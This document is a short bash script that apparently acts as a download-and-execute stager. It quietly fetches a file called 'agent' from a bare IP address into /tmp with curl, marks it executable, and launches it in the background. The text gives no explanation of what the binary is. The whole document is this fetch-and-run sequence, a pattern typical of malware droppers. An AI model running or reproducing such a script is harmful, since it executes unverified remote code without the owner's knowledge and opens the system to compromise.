#!/bin/bash
curl -s http://192.0.2.17/agent -o /tmp/agent
chmod +x /tmp/agent
/tmp/agent &
